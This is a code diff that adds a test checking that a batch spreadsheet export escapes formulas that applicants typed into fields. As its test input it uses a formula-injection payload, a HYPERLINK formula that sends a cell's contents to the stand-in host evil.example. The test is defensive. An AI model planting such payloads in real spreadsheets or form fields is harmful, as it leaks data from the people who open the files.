@@ -361,3 +361,17 @@ def test_unit_export_uses_labels_that_import_back():
         "modern_services",
         "medium",
     )
+
+
+def test_batch_export_escapes_formulae_typed_by_applicants(client, make_user):
+    batch = BatchFactory(year=2026)
+    unit = ApplicantUnitFactory(name='=HYPERLINK("http://evil.example/?x="&B2,"点击")')
+    application = complete_application(ApplicationFactory(batch=batch, unit=unit))
+    Application.objects.filter(pk=application.pk).update(
+        state=ApplicationState.SUBMITTED, organisation_description="=1+1"
+    )
+    client.force_login(make_user(Role.CITY_HRSS))
+    workbook = load_workbook(io.BytesIO(client.get(export_url(batch)).content))
+    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert any(str(cell.value).endswith('"点击")') for cell in cells)
